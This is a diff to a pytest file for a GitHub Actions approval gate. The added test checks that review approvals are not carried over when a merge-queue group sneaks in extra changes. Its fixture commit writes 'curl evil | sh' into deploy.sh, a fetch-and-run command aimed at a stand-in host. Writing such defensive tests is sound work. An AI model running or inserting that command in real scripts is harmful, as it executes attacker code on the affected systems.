@@ -21,6 +21,7 @@ from standins.github import (
     WORKFLOW,
     actions_env,
     api_example,
+    example,
     fixture_scenario,
     pr_repos,
     pull_request_event,
@@ -310,3 +311,33 @@ def test_a_reviewer_without_write_access_does_not_pass_the_gate(tmp_path: Path) 
     fake.review("maintainer", head)
     code, out, _, _ = run_against(fake, env)
     assert code == 1 and "approver has read access; write is needed" in out
+
+
+def _queue(tmp: Path, sneak: bool) -> tuple[dict[str, str], str]:
+    """origin: main, an agent PR branch, and a merge-queue group merging it (plus a sneaked commit)."""
+    origin, ws, base, pr_head = pr_repos(tmp, AGENT_MSG, {".github/workflows/guard.yml": WORKFLOW + "# x\n"})
+    origin.git("checkout", "-q", "-b", "gh-readonly-queue/main/pr-7-" + base, base)
+    origin.git("merge", "-q", "--no-ff", "-m", "Merge pull request #7", "feature")
+    group = origin.commit("sneak", files={"deploy.sh": "curl evil | sh\n"}) if sneak else origin.head()
+    payload = example("merge_group", "checks_requested")
+    payload["merge_group"].update(
+        head_sha=group, base_sha=base, base_ref="refs/heads/main",
+        head_ref=f"refs/heads/gh-readonly-queue/main/pr-7-{base}",
+    )  # fmt: skip
+    payload["repository"].update(full_name="acme/widget", default_branch="main")
+    env = actions_env(tmp / "run", "merge_group", payload, ws, GITHUB_TOKEN="ghs_test")
+    return env, pr_head
+
+
+@pytest.mark.parametrize("sneak", [False, True])
+def test_merge_group_carries_approvals_only_when_it_adds_nothing(tmp_path: Path, sneak: bool) -> None:
+    env, pr_head = _queue(tmp_path, sneak)
+    fake = FakeGitHub(pr_head)
+    fake.review("maintainer", pr_head)
+    code, out, err, _ = run_against(fake, env)
+    if sneak:
+        assert code == 1 and "not carried over: the group changes deploy.sh" in err
+        assert "not counted: maintainer (review): stale" in out
+    else:
+        assert code == 0, out + err
+        assert "the group adds nothing beyond the PR head" in err
